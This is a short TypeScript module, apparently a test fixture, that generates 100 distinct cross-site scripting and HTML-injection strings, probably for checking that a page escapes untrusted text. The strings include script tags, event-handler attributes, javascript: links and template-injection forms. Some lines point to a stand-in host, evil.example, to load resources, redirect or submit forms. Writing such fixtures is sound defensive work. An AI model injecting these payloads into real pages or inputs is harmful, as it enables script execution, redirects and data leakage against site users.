/** Texts that would run, load, lead away or look like something else if a page took them for more than text. */
const shapes: readonly ((number: number) => string)[] = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<img src="http://evil.example/${n}.png">`,
  (n) => `"><svg onload=alert(${n})>`,
  (n) => `' onmouseover='alert(${n})' x='`,
  (n) => `" autofocus onfocus="alert(${n})`,
  (n) => `javascript:alert(${n})`,
  (n) => `[click](javascript:alert(${n}))`,
  (n) => `![x](http://evil.example/${n})`,
  (n) => `<a href="javascript:alert(${n})">x</a>`,
  (n) => `<iframe srcdoc="<script>alert(${n})</script>"></iframe>`,
  (n) => `<object data="data:text/html,<script>alert(${n})</script>"></object>`,
  (n) => `<style>@import url(http://evil.example/${n}.css)</style>`,
  (n) => `<link rel=stylesheet href=http://evil.example/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=http://evil.example/${n}">`,
  (n) => `<base href=http://evil.example/${n}>`,
  (n) => `<form action=http://evil.example/${n}><button>x</button></form>`,
  (n) => `<details open ontoggle=alert(${n})>`,
  (n) => `<math><mtext></mtext><script>alert(${n})</script></math>`,
  (n) => `</pre></textarea></title><script>alert(${n})</script>`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`,
  (n) => `\${alert(${n})}`,
  (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`,
  (n) => `\u001b[31m\u202e<b onclick=alert(${n})>\u200b`,
  (n) => `__proto__[${n}]=<video><source onerror=alert(${n})></video>`,
];

/** 100 of them, all different. */
export const payloads: readonly string[] = shapes.flatMap((shape, index) =>
  [1, 2, 3, 4].map((number) => shape(index * 4 + number)),
);
